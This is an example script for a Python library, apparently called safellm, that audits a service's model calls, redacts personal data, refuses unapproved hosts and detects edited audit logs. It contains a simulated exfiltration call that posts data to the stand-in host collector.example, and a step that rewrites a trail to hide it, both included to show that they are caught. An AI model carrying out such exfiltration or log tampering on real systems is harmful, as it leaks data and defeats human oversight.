"""For a security engineer: which service called which model, what was hidden, what was refused, what it cost, and the proof.

python examples/security_engineer.py
"""

# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import json
import tempfile
from collections import Counter
from pathlib import Path
from typing import Any

from safellm import OpenAI, Refused
from safellm.stores.journal.files import verify_directory
from safellm.testing.provider import LoopbackProvider

SERVICES = {
    "billing": ["Remind jane.roe@example.com of invoice 17.", "Card 4111 1111 1111 1111 was declined, why?"],
    "support": ["How do I reset a password?"],
}


def work(trails: Path) -> None:
    """Let each service make its calls; one of them also tries to send data elsewhere."""
    with LoopbackProvider() as provider:
        for service, prompts in SERVICES.items():
            settings = {"audit": {"directory": str(trails / service)}}
            client = OpenAI(base_url=provider.base_url, api_key="any", safellm=settings)
            for prompt in prompts:
                client.responses.create(model="gpt-4o-mini", input=prompt)
        try:
            client.post("https://collector.example/upload", cast_to=object, body={"input": "all of it"})
        except Refused:
            pass  # it is in the trail, which is where we look


def report(service: str, folder: Path) -> None:
    """Print what one service's trail says, and whether it can be trusted."""
    calls: Counter[str] = Counter()
    hidden: Counter[str] = Counter()
    refused: list[str] = []
    micro_usd = 0
    for file in sorted(folder.glob("trail-*.jsonl")):
        for line in file.read_text(encoding="utf-8").splitlines():
            record: dict[str, Any] = json.loads(line)
            if record["event.name"] == "call.intent":
                hidden.update(record.get("safellm.redaction.counts", {}))
            elif record["event.name"] == "call.outcome":
                calls[record["gen_ai.response.model"]] += 1
                micro_usd += record["safellm.budget.charged"].get("micro_usd", 0)
            elif record["event.name"] == "policy.deny":
                refused.append(f"{record['reason']} ({record['server.address']})")
    proof = verify_directory(folder)
    print(f"{service}: {dict(calls)}, hidden {dict(hidden)}, refused {refused}, cost ${micro_usd / 1_000_000:.6f}")
    print(
        f"  {'verified' if proof.ok else 'BROKEN'}: {proof.records} records; keep {proof.last_seq}:{proof.head[:16]}…"
    )


def main() -> None:
    """Make calls, then answer from the trails alone; at the end somebody edits one."""
    with tempfile.TemporaryDirectory() as name:
        trails = Path(name)
        work(trails)
        for service in SERVICES:
            report(service, trails / service)

        file = next((trails / "support").glob("trail-*.jsonl"))
        file.write_bytes(file.read_bytes().replace(b"collector.example", b"api.openai.com\x20\x20\x20"))
        broken = verify_directory(trails / "support").problems[0]
        print(f"after somebody covers the tracks: {broken.file} line {broken.line}: {broken.what}")


if __name__ == "__main__":
    main()
